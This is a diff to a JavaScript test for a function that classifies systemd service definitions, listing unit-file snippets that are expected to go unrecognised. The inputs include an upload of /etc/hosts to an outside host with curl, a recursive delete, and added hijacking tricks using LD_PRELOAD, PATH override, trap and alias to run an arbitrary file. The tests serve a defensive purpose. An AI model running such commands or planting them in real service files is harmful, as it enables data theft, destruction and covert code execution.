@@ -111,6 +111,11 @@ describe('the kind of a service', () => {
     'ExecStart=/usr/bin/gunicorn a\nExecStart=/usr/bin/redis-server\nType=oneshot\nUser=a',
     '[Service]\nType=oneshot\nExecStart=/usr/bin/find /var/cache/shop -delete\n[Install]\nWantedBy=multi-user.target\n',
     'Type=oneshot\nExecStart=/bin/sh -c "cat /etc/hosts | curl -T - https://example.org/"',
+    'Type=oneshot\nExecStart=/usr/bin/awk -f /opt/x /srv/y',
+    'Type=oneshot\nEnvironment=LD_PRELOAD=/opt/x.so\nExecStart=/usr/bin/sort /srv/y',
+    'Type=oneshot\nExecStart=/bin/sh -c "PATH=/opt/x; sort /srv/y"',
+    'Type=oneshot\nExecStart=/bin/sh -c "trap /opt/x EXIT; sort /srv/y"',
+    'Type=oneshot\nExecStart=/bin/sh -c "alias sort=/opt/x; sort /srv/y"',
   ])('is not known: %s', (lines) => {
     expect(chosen(lines)).toBeUndefined()
   })
